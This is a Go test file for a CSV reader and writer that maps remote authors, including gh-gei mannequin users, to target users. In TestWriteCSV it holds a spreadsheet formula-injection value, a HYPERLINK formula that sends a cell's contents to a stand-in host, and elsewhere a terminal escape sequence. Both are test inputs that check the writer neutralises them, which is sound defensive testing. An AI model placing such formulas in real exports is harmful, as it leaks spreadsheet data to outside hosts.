package authorfile

import (
	"bytes"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

// place is what most tests want to know of a problem.
type place struct {
	Line, Column int
	Summary      string
}

func places(problems []Problem) []place {
	var out []place
	for _, p := range problems {
		out = append(out, place{p.Line, p.Column, p.Summary})
	}
	return out
}

// readCase is a file and what comes of it.
type readCase struct {
	name     string
	text     string
	entries  []Entry
	problems []place
}

func (c readCase) check(t *testing.T, entries []Entry, problems []Problem) {
	t.Helper()
	if diff := cmp.Diff(c.entries, entries); diff != "" {
		t.Errorf("entries (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(c.problems, places(problems)); diff != "" {
		t.Errorf("problems (-want +got):\n%s", diff)
	}
	for _, p := range problems {
		if p.Detail == "" {
			t.Errorf("line %d: %s: no detail", p.Line, p.Summary)
		}
	}
}

func TestCSV(t *testing.T) {
	const all = "remote_id,remote_name,name,email,target_user\n"
	tests := []readCase{
		{
			name: "all columns",
			text: all + "7,jo,Jo Doe,jo@new.example,jodoe\n",
			entries: []Entry{{RemoteID: "7", RemoteName: "jo", Name: "Jo Doe", Email: "jo@new.example",
				TargetUser: "jodoe", Line: 2}},
		},
		{
			name:    "a git person by e-mail",
			text:    "remote_id,name\njo@old.example,Jo Doe\n",
			entries: []Entry{{RemoteID: "jo@old.example", Name: "Jo Doe", Line: 2}},
		},
		{
			name:    "subset in another order",
			text:    "target_user,remote_name\njodoe,jo\n",
			entries: []Entry{{RemoteName: "jo", TargetUser: "jodoe", Line: 2}},
		},
		{
			name:    "empty means keep",
			text:    all + "7,jo,,,\n",
			entries: []Entry{{RemoteID: "7", RemoteName: "jo", Line: 2}},
		},
		{
			name:    "gh-gei",
			text:    "mannequin-user,mannequin-id,target-user\nmona,ME_1,mona2\n",
			entries: []Entry{{RemoteID: "ME_1", RemoteName: "mona", TargetUser: "mona2", Line: 2}},
		},
		{
			name: "gh-gei in another order",
			text: "mannequin-id,mannequin-user,target-user\nME_1,mona,mona2\n",
			problems: []place{
				{1, 1, `Unknown column "mannequin-id"`},
				{1, 14, `Unknown column "mannequin-user"`},
				{1, 29, `Unknown column "target-user"`},
			},
		},
		{
			name: "byte order mark, CRLF, blank lines, no last line end",
			text: "\ufeffremote_id,name\r\n\r\n1,Jo\r\n,\r\n \r\n2,Mo",
			entries: []Entry{
				{RemoteID: "1", Name: "Jo", Line: 3},
				{RemoteID: "2", Name: "Mo", Line: 6},
			},
		},
		{
			name:    "blank lines above the header",
			text:    "\n\nremote_id,name\n1,Jo\n",
			entries: []Entry{{RemoteID: "1", Name: "Jo", Line: 4}},
		},
		{
			name: "quoted cells",
			text: `"remote_name" , name` + "\n" + `" jo, the ""first""" , "Doe, Jo "` + "\n" + `"",x` + "\n",
			entries: []Entry{
				{RemoteName: ` jo, the "first"`, Name: "Doe, Jo", Line: 2},
			},
			problems: []place{{3, 0, "Row without a person"}},
		},
		{
			name: "formulas",
			text: "remote_name,target_user\n'=jo,'@mo\n=jo2,@mo2\n''-x,'x\n",
			entries: []Entry{
				{RemoteName: "=jo", TargetUser: "@mo", Line: 2},
				{RemoteName: "=jo2", TargetUser: "@mo2", Line: 3},
				{RemoteName: "'-x", TargetUser: "'x", Line: 4},
			},
		},
		{
			name: "quotes",
			text: "remote_name,name\né \"jo\",x\n\"jo,x\n\"jo\" x,y\n1,\"a\"\"b\"c\nmo,y\n",
			problems: []place{
				{2, 3, "Quote inside a cell"},
				{3, 1, "Unclosed quote"},
				{4, 6, "Text after a quoted cell"},
				{5, 9, "Text after a quoted cell"},
			},
			entries: []Entry{{RemoteName: "mo", Name: "y", Line: 6}},
		},
		{
			name: "wrong number of cells",
			text: "remote_id,name\n1\n2,Doe, Jo\n3,\n",
			problems: []place{
				{2, 0, "Wrong number of cells"},
				{3, 0, "Wrong number of cells"},
			},
			entries: []Entry{{RemoteID: "3", Line: 4}},
		},
		{
			name: "brackets",
			text: "remote_id,name,email\nJo <jo@x>,<Jo>,Jo <jo@x>\nMo <mo@x>,Mo,mo@x\n",
			problems: []place{
				{2, 11, "Angle bracket in name"},
				{2, 16, "Angle bracket in email"},
			},
			entries: []Entry{{RemoteID: "Mo <mo@x>", Name: "Mo", Email: "mo@x", Line: 3}},
		},
		{
			name: "the same person twice",
			text: all + "1,jo,Jo,,\n2,jo,Mo,,\n1,other,Jo,,\n1,jo,,,x\n,mo,Mo,,\n,mo,,,\n",
			entries: []Entry{
				{RemoteID: "1", RemoteName: "jo", Name: "Jo", Line: 2},
				{RemoteID: "2", RemoteName: "jo", Name: "Mo", Line: 3},
				{RemoteName: "mo", Name: "Mo", Line: 6},
			},
			problems: []place{
				{5, 0, "Person mapped twice"},
				{7, 0, "Person mapped twice"},
			},
		},
		{
			name: "unknown and repeated columns, rows still checked",
			text: "remote_id,nmae,remote_id,\n1,Jo,2,3\n\"4\n",
			problems: []place{
				{1, 11, `Unknown column "nmae"`},
				{1, 16, `Repeated column "remote_id"`},
				{1, 26, "Column without a name"},
				{3, 1, "Unclosed quote"},
			},
			entries: []Entry{{RemoteID: "1", Line: 2}},
		},
		{
			name:     "no column for the person",
			text:     "name,email\nJo,jo@x\n",
			problems: []place{{1, 0, "No column for the person"}},
		},
		{
			name: "no header",
			text: "7,jo,Jo,jo@x,jodoe\n8,mo,\"Mo\n",
			problems: []place{
				{1, 0, "Missing header"},
				{2, 6, "Unclosed quote"},
			},
		},
		{
			name:     "semicolons",
			text:     "remote_id;name\n1;Jo\n",
			problems: []place{{1, 0, "Cells not separated by commas"}},
		},
		{
			name:     "empty",
			problems: []place{{1, 0, "Missing header"}},
		},
		{
			name:     "only blank lines",
			text:     "\n\n",
			problems: []place{{2, 0, "Missing header"}},
		},
		{
			name: "a header that is not text",
			text: "remote_id,n\xffme\n1,Jo\n2,\"Mo\n",
			problems: []place{
				{1, 12, "Invalid UTF-8"},
				{3, 3, "Unclosed quote"},
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			entries, problems := CSV(strings.NewReader(tt.text))
			tt.check(t, entries, problems)
		})
	}
}

func TestCSVNamesBothLines(t *testing.T) {
	_, problems := CSV(strings.NewReader("remote_id,name\n1,Jo\n\n1,Mo\n"))
	if len(problems) != 1 {
		t.Fatalf("got %d problems, want 1: %v", len(problems), problems)
	}
	want := `Lines 2 and 4 map remote_id "1" to different values. Remove one of the two lines.`
	if got := problems[0].Detail; got != want {
		t.Errorf("detail:\n got %s\nwant %s", got, want)
	}
}

func TestCSVSuggestsColumn(t *testing.T) {
	tests := []struct{ given, want string }{
		{"nmae", "name"},
		{"Name", "name"},
		{"e-mail", "email"},
		{"remote id", "remote_id"},
		{"Remote-Name", "remote_name"},
		{"target-user", "target_user"},
		{"targetuser", "target_user"},
		{"id", ""},
		{"department", ""},
		{"", ""},
		{strings.Repeat("name", 1000), ""},
	}
	for _, tt := range tests {
		_, problems := CSV(strings.NewReader("remote_id,remote_name," + tt.given + "\n"))
		if len(problems) != 1 {
			t.Errorf("%.40q: got %d problems, want 1", tt.given, len(problems))
			continue
		}
		_, got, _ := strings.Cut(problems[0].Detail, "Did you mean ")
		if want := strings.ReplaceAll(`"`+tt.want+`"?`, `""?`, ""); got != want {
			t.Errorf("%.40q: suggested %s, want %s", tt.given, got, want)
		}
		if len(problems[0].Summary) > 100 {
			t.Errorf("%.40q: the summary has %d bytes", tt.given, len(problems[0].Summary))
		}
	}
}

func TestWriteCSV(t *testing.T) {
	entries := []Entry{
		{RemoteID: "7", RemoteName: "jo", Name: "Doe, Jo", Email: "jo@x", TargetUser: "jodoe"},
		{RemoteID: `=HYPERLINK("http://x.example?"&A1,"click")`, RemoteName: "+1", Name: "-x", Email: "@y", TargetUser: "\tz"},
		{RemoteName: "'=quoted already", Name: "'plain", Email: " jo@x "},
		{RemoteName: ` "spaces" `},
		{RemoteID: "Jo <jo@x>", RemoteName: "a\tb"},
		{RemoteName: " jo"},
	}
	const want = `remote_id,remote_name,name,email,target_user
7,jo,"Doe, Jo",jo@x,jodoe
"'=HYPERLINK(""http://x.example?""&A1,""click"")",'+1,'-x,'@y,z
,''=quoted already,'plain,jo@x,
," ""spaces"" ",,,
Jo <jo@x>,a	b,,,
," jo",,,
`
	var b bytes.Buffer
	if err := WriteCSV(&b, entries); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Errorf("file (-want +got):\n%s", diff)
	}
	checkSpreadsheet(t, b.String())

	got, problems := CSV(&b)
	if len(problems) > 0 {
		t.Fatalf("problems: %v", problems)
	}
	for i := range entries {
		entries[i] = entries[i].tidy()
	}
	if diff := cmp.Diff(entries, got, ignoreLine()); diff != "" {
		t.Errorf("read back (-want +got):\n%s", diff)
	}
}

func TestWriteCSVNoEntries(t *testing.T) {
	var b bytes.Buffer
	if err := WriteCSV(&b, nil); err != nil {
		t.Fatal(err)
	}
	if want := "remote_id,remote_name,name,email,target_user\n"; b.String() != want {
		t.Errorf("got %q, want %q", b.String(), want)
	}
}

func TestWriteCSVLeavesOut(t *testing.T) {
	tests := []struct {
		name  string
		entry Entry
		want  string // in the error
	}{
		{"nobody", Entry{Name: "Jo"}, "one without a remote id or name"},
		{"mailmap", Entry{MatchName: "Jo", MatchEmail: "jo@x", Name: "Jo Doe"}, `"Jo <jo@x>"`},
		{"mailmap and id", Entry{RemoteID: "1", MatchEmail: "jo@x"}, `remote_id "1"`},
		{"line break", Entry{RemoteName: "jo\nmo"}, `"jo\nmo"`},
		{"escape sequence", Entry{RemoteID: "1", RemoteName: "\x1b[2J"}, `remote_id "1"`},
		{"invalid UTF-8", Entry{RemoteName: "j\xf6"}, `"j\xf6"`},
		{"bracket", Entry{RemoteID: "1", Name: "Jo <jo@x>"}, `remote_id "1"`},
		{"too long", Entry{RemoteID: strings.Repeat("x", maxLineBytes)}, `xxx"...`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			err := WriteCSV(&b, []Entry{{RemoteID: "8"}, tt.entry, {RemoteID: "9"}})
			if err == nil || !strings.Contains(err.Error(), "1 of 3 people") || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("error is %v, want it to mention 1 of 3 people and %s", err, tt.want)
			}
			if want := "remote_id,remote_name,name,email,target_user\n8,,,,\n9,,,,\n"; b.String() != want {
				t.Errorf("wrote %q, want %q", b.String(), want)
			}
		})
	}
}

func TestWriteCSVTooMany(t *testing.T) {
	var b bytes.Buffer
	if err := WriteCSV(&b, make([]Entry, maxLines)); err == nil || b.Len() > 0 {
		t.Errorf("wrote %d bytes with error %v, want none and an error", b.Len(), err)
	}
}

func ignoreLine() cmp.Option { return cmpopts.IgnoreFields(Entry{}, "Line") }
